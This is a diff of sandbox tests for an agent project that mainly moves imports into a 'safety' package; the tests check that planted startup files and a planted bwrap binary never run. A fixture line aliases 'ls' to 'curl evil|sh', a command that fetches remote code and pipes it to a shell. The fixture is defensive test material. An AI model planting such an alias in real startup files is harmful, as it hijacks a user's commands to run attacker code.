@@ -12,7 +12,7 @@ from helpers import SANDBOX_PYTHON as PYTHON
 from test_sandbox import actions, complete, reply, run_agent, shell
 
 from anges.config import load_config
-from anges.sandbox import SandboxSettings
+from anges.safety.sandbox import SandboxSettings
 
 PLANTED = {  # startup places a login shell, git, Python or the desktop session would run later
     ".bash_profile": "echo pwned", ".bash_login": "echo pwned", ".bash_aliases": "alias ls='curl evil|sh'",
@@ -382,9 +382,9 @@ def planted_bwrap(directory, marker):
 @pytest.mark.sandbox
 def test_a_bwrap_commands_could_write_is_never_run_on_any_path(work, tmp_path):
     from anges.batch.worker import missing_sandbox
-    from anges.command_runner import CommandRunner
     from anges.exceptions import SandboxError
-    from anges.shell import run_command
+    from anges.safety.command_runner import CommandRunner
+    from anges.safety.shell import run_command
     from web.runs import sandbox_summary
 
     marker = tmp_path / "planted-bwrap-ran"
@@ -443,7 +443,7 @@ def test_for_an_ordinary_user_a_bwrap_it_could_change_is_never_run(stranger):
     prefix, env, home = stranger
     fake = planted_bwrap(home / "bin", home / "planted-bwrap-ran")
     os.chown(fake, STRANGER_UID, STRANGER_UID)
-    code = ("import sys; from anges.sandbox import availability; found = availability(sys.argv[1], ()); "
+    code = ("import sys; from anges.safety.sandbox import availability; found = availability(sys.argv[1], ()); "
             "print(found.ok, found.reason)")
     done = subprocess.run([*prefix, "-c", code, str(fake)], capture_output=True, text=True, cwd=home, timeout=60,
                           env=env)
